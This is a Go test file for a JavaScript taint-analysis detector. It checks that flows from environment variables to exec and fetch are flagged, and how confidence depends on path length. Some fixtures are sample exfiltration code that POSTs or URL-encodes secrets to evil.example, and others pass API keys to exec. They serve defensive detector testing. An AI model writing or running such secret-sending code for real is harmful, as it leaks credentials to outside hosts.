package dataflow_test

import (
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/currentlycurrently/acidtest/dataflow"
	"github.com/currentlycurrently/acidtest/model"
	"github.com/currentlycurrently/acidtest/syntax/jsts"
)

func parse(t *testing.T, src string) *dataflow.Graph {
	t.Helper()
	front := jsts.New()
	parsed, err := front.Parse("handler.js", []byte(src))
	require.NoError(t, err)
	t.Cleanup(parsed.Close)
	return dataflow.BuildJSTS(parsed)
}

func TestDirectEnvToExec(t *testing.T) {
	g := parse(t, `
const { exec } = require("child_process");
exec(process.env.API_KEY);
`)
	findings := dataflow.Findings(g, "handler.js")
	require.Len(t, findings, 1)
	assert.Equal(t, model.SeverityCritical, findings[0].Severity)
	assert.Contains(t, findings[0].Evidence, "API_KEY")
}

func TestAssignmentChainToExec(t *testing.T) {
	g := parse(t, `
const key = process.env.API_KEY;
const cmd = key;
const final = cmd;
require("child_process").execSync(final);
`)
	findings := dataflow.Findings(g, "handler.js")
	require.Len(t, findings, 1)
	assert.Equal(t, model.SeverityCritical, findings[0].Severity)
}

func TestPropertyFlowEnvToFetch(t *testing.T) {
	g := parse(t, `
const config = {};
config.apiKey = process.env.SECRET;
fetch("https://evil.example/collect", { method: "POST", body: config.apiKey });
`)
	findings := dataflow.Findings(g, "handler.js")
	require.Len(t, findings, 1)
	assert.True(t, strings.Contains(findings[0].Evidence, "apiKey"))
}

func TestTemplateLiteralInterpolation(t *testing.T) {
	g := parse(t, `
const token = process.env.TOKEN;
const url = ` + "`https://evil.example/?t=${token}`" + `;
fetch(url, { method: "POST" });
`)
	findings := dataflow.Findings(g, "handler.js")
	require.Len(t, findings, 1)
	assert.Equal(t, "handler.js", findings[0].File)
}

func TestNoTaintWhenSourceNeverReachesSink(t *testing.T) {
	g := parse(t, `
const key = process.env.API_KEY;
const message = "hello world";
console.log(message);
`)
	findings := dataflow.Findings(g, "handler.js")
	assert.Empty(t, findings)
}

func TestConfidenceHighAtSixNodeBoundary(t *testing.T) {
	// env -> key -> a -> b -> c -> sink: 6 nodes inclusive, 5 edges.
	g := parse(t, `
const key = process.env.API_KEY;
const a = key;
const b = a;
const c = b;
exec(c);
`)
	assert.Equal(t, dataflow.ConfidenceHigh, confidenceOf(t, g, "handler.js"))
}

func TestConfidenceMediumAtSevenNodeBoundary(t *testing.T) {
	// env -> key -> a -> b -> c -> d -> sink: 7 nodes inclusive, 6 edges. One
	// hop past the high-confidence boundary should drop to medium.
	g := parse(t, `
const key = process.env.API_KEY;
const a = key;
const b = a;
const c = b;
const d = c;
exec(d);
`)
	assert.Equal(t, dataflow.ConfidenceMedium, confidenceOf(t, g, "handler.js"))
}

func TestConservativeNetworkResponseRequiresExtraHop(t *testing.T) {
	g := parse(t, `
const response = fetch("https://api.example/data");
const data = response.json();
exec(data);
`)
	findings := dataflow.Findings(g, "handler.js")
	require.Len(t, findings, 1)
	assert.Equal(t, dataflow.ConfidenceMedium, confidenceOf(t, g, "handler.js"))
	_ = findings
}

func confidenceOf(t *testing.T, g *dataflow.Graph, file string) dataflow.Confidence {
	t.Helper()
	findings := dataflow.Findings(g, file)
	require.Len(t, findings, 1)
	if strings.Contains(findings[0].Detail, "medium confidence") {
		return dataflow.ConfidenceMedium
	}
	if strings.Contains(findings[0].Detail, "high confidence") {
		return dataflow.ConfidenceHigh
	}
	return dataflow.ConfidenceLow
}
